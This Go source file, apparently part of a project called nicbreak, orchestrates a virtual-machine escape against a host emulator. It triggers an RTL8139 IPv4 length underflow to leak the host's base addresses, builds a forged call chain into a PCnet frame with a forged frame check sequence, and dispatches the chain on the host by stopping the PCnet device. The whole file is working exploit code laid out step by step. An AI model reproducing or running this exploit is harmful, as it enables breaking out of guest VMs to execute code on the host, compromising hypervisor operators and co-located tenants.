// Package escape runs the sequence of device interactions that leaks
// the host emulator's base addresses and delivers a forged call chain.
//
// The phases are strictly sequential and run on the calling goroutine:
//
//  1. enable the RTL8139 in loopback C+ mode
//  2. transmit a packet whose IPv4 length underflows
//  3. wait for the receive ring to fill
//  4. recover every base from the receive buffers
//  5. write the chain into a PCnet frame
//  6. forge the frame check sequence
//  7. enable the PCnet and submit the frame
//  8. wait for the transmission
//  9. stop the PCnet, which dispatches the chain
package escape

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"time"

	"github.com/apex/log"
	"github.com/dustin/go-humanize"

	"gitlab.com/stephen-fox/nicbreak/chain"
	"gitlab.com/stephen-fox/nicbreak/dma"
	"gitlab.com/stephen-fox/nicbreak/fcs"
	"gitlab.com/stephen-fox/nicbreak/ioport"
	"gitlab.com/stephen-fox/nicbreak/layout"
	"gitlab.com/stephen-fox/nicbreak/leak"
	"gitlab.com/stephen-fox/nicbreak/memory"
	"gitlab.com/stephen-fox/nicbreak/nic"
	"gitlab.com/stephen-fox/nicbreak/scripting"
)

var (
	DefaultExitFn = func(err error) {
		log.Fatal(err.Error())
	}
)

// Translator resolves process addresses for the devices and for the
// host. *pagemap.Translator implements it.
type Translator interface {
	GuestPhysical(addr uintptr) (uint64, error)
	HostReachable(addr uintptr) (uint64, error)
	SetHostPhysBase(base uint64)
}

// Config configures Run.
type Config struct {
	Layout     *layout.Layout
	Port       ioport.Port
	Translator Translator

	// Allocator defaults to a dma.Allocator backed by Translator.
	Allocator nic.Allocator

	// Stages is optional. It may pause execution at a phase.
	Stages *scripting.StageCtl

	// Settle caps each wait for a device. See nic.Wait.
	Settle time.Duration

	// Hexdump logs the filled receive buffers at debug level.
	Hexdump bool
}

func (o Config) validate() error {
	if o.Layout == nil {
		return errors.New("layout is required")
	}

	if o.Port == nil {
		return errors.New("port is required")
	}

	if o.Translator == nil {
		return errors.New("translator is required")
	}

	err := o.Layout.Validate()
	if err != nil {
		return fmt.Errorf("invalid layout - %w", err)
	}

	return nil
}

// Result describes a completed run.
type Result struct {
	Bases leak.Bases

	// Frame is the forged frame as it was submitted.
	Frame []byte

	// Trailer is the address encoded in the frame check sequence.
	Trailer uint64
}

func RunOrExit(ctx context.Context, config Config) *Result {
	r, err := Run(ctx, config)
	if err != nil {
		DefaultExitFn(err)
	}
	return r
}

// Run executes every phase. It returns after the PCnet was stopped.
func Run(ctx context.Context, config Config) (*Result, error) {
	err := config.validate()
	if err != nil {
		return nil, err
	}

	s := &session{
		config: config,
		mem:    config.Allocator,
		stages: config.Stages,
	}

	if s.mem == nil {
		s.mem = dma.NewAllocator(config.Translator)
	}

	if s.stages == nil {
		s.stages = &scripting.StageCtl{}
	}

	defer s.close()

	return s.run(ctx)
}

type session struct {
	config  Config
	mem     nic.Allocator
	stages  *scripting.StageCtl
	closers []func() error
}

func (o *session) onClose(fn func() error) {
	o.closers = append(o.closers, fn)
}

func (o *session) close() {
	for i := len(o.closers) - 1; i >= 0; i-- {
		err := o.closers[i]()
		if err != nil {
			log.WithError(err).Warn("failed to release resource")
		}
	}

	o.closers = nil
}

func (o *session) run(ctx context.Context) (*Result, error) {
	l := o.config.Layout

	o.stages.Next("enable rtl8139")

	rtl, err := nic.NewRTL8139(o.config.Port, o.mem, nic.RTL8139Config{
		Port:          uint16(l.Devices.RTL8139.Port),
		RxDescriptors: l.Devices.RTL8139.RxDescriptors,
	})
	if err != nil {
		return nil, err
	}
	o.onClose(rtl.Close)

	err = rtl.Configure()
	if err != nil {
		return nil, err
	}

	o.stages.Next("trigger leak")

	packet, err := nic.LeakPacket(layout.MustMAC(l.Devices.RTL8139.MAC))
	if err != nil {
		return nil, err
	}

	err = rtl.Submit(packet)
	if err != nil {
		return nil, err
	}

	o.stages.Next("wait for leak")

	err = o.wait(ctx, "rtl8139 receive ring", rtl.HasFilled)
	if err != nil {
		return nil, err
	}

	o.stages.Next("recover bases")

	bases, err := o.recoverBases(rtl)
	if err != nil {
		return nil, err
	}

	o.config.Translator.SetHostPhysBase(bases.PhysMem)

	o.stages.Next("build chain")

	guest, err := o.placeStrings(l.Strings)
	if err != nil {
		return nil, err
	}

	frame, err := nic.NewFrame(nic.PCnetBufferSize,
		layout.MustMAC(l.Devices.PCnet.FrameDst),
		layout.MustMAC(l.Devices.PCnet.FrameSrc))
	if err != nil {
		return nil, err
	}

	env := chain.Env{
		Bases:   bases,
		Symbols: l.AddressTable(),
		Guest:   guest,
	}

	err = l.Chain.Apply(frame, env, memory.PointerMakerForX86_64())
	if err != nil {
		return nil, fmt.Errorf("failed to build chain - %w", err)
	}

	o.stages.Next("forge frame check sequence")

	trailer, err := chain.Eval(l.Chain.Trailer, env)
	if err != nil {
		return nil, fmt.Errorf("failed to evaluate chain trailer - %w", err)
	}

	err = fcs.Forge(frame, fcs.StoredTarget(uint32(trailer)))
	if err != nil {
		return nil, err
	}

	log.WithField("trailer", fmt.Sprintf("0x%08x", uint32(trailer))).Info("forged frame check sequence")

	o.stages.Next("enable pcnet")

	pcnet, err := nic.NewPCnet(o.config.Port, o.mem, nic.PCnetConfig{
		Port: uint16(l.Devices.PCnet.Port),
		MAC:  layout.MustMAC(l.Devices.PCnet.MAC),
	})
	if err != nil {
		return nil, err
	}
	o.onClose(pcnet.Close)

	err = pcnet.Configure()
	if err != nil {
		return nil, err
	}

	err = o.wait(ctx, "pcnet initialization", pcnet.Initialized)
	if err != nil {
		return nil, err
	}

	o.stages.Next("submit forged frame")

	err = pcnet.Submit(frame)
	if err != nil {
		return nil, err
	}

	o.stages.Next("wait for transmission")

	err = o.wait(ctx, "pcnet transmission", pcnet.Sent)
	if err != nil {
		return nil, err
	}

	o.stages.Next("dispatch")

	pcnet.Stop()

	o.stages.Done()

	return &Result{
		Bases:   bases,
		Frame:   frame,
		Trailer: trailer,
	}, nil
}

// wait tolerates a device that does not finish in time. The phases
// that follow either over-scan or do not depend on the outcome.
// Cancellation of ctx is still an error.
func (o *session) wait(ctx context.Context, what string, done func() bool) error {
	err := nic.Wait(ctx, o.config.Settle, done)
	if err == nil {
		return nil
	}

	if ctx.Err() != nil {
		return fmt.Errorf("interrupted while waiting for %s - %w", what, err)
	}

	log.WithError(err).Warnf("%s did not finish, continuing", what)

	return nil
}

func (o *session) recoverBases(rtl *nic.RTL8139) (leak.Bases, error) {
	filled := rtl.Filled()
	bufs := rtl.Buffers()

	log.WithFields(log.Fields{
		"filled": len(filled),
		"total":  len(bufs),
	}).Info("scanning receive ring")

	if o.config.Hexdump {
		for i, buf := range filled {
			log.Debugf("filled buffer %d (%s):\n%s", i,
				humanize.Bytes(uint64(len(buf))), hex.Dump(buf))
		}
	}

	bases, err := leak.NewScanner(o.config.Layout.ScannerSignatures()).FindAll(bufs)
	if err != nil {
		return bases, fmt.Errorf("failed to recover bases - %w", err)
	}

	for _, kind := range leak.Kinds {
		log.Info(leak.Base{Kind: kind, Value: bases.Get(kind)}.String())
	}

	return bases, nil
}

// placeStrings copies each string into its own DMA region and returns
// a resolver for "@name" terms.
func (o *session) placeStrings(strs []layout.GuestString) (func(string) (uint64, error), error) {
	regions := make(map[string]*dma.Region, len(strs))

	for _, str := range strs {
		region, err := o.mem.Alloc(len(str.Value) + 1)
		if err != nil {
			return nil, fmt.Errorf("failed to allocate guest string %q - %w", str.Name, err)
		}
		o.onClose(region.Free)

		b := region.Bytes()
		copy(b, str.Value)
		b[len(str.Value)] = 0

		regions[str.Name] = region
	}

	return func(name string) (uint64, error) {
		region, ok := regions[name]
		if !ok {
			return 0, fmt.Errorf("unknown guest string %q", name)
		}

		return o.config.Translator.HostReachable(region.Addr(0))
	}, nil
}
